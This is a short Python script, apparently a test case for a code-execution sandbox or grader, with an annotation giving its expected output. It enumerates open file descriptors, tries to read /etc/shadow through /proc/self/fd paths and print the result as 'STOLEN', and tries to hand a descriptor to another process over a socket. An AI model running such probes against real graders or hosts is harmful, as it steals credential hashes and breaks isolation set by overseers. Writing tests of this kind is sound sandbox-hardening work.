"""Looks for descriptors that the grader or an earlier submission left open, and passes its own on to children."""

# /// expect
# prints = ["\\[0, 1, 2, 3\\]"]
# ///
# %%
import os, stat, subprocess

held = []
for number in range(300):
    try:
        os.fstat(number)
        held.append(number)
    except OSError:
        pass
print(held)
for number in held:
    for path in (f"/proc/self/fd/{number}/../../etc/shadow", f"/proc/self/fd/{number}"):
        try:
            print(number, os.readlink(path)[:40] if path.count("/") == 4 else "STOLEN " + open(path).read())
        except OSError as error:
            print(number, type(error).__name__)
try:
    import socket

    kind = socket.socket(fileno=os.dup(3))
    kind.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, (2).to_bytes(4, "little"))])
except (OSError, ValueError) as error:
    print(type(error).__name__)
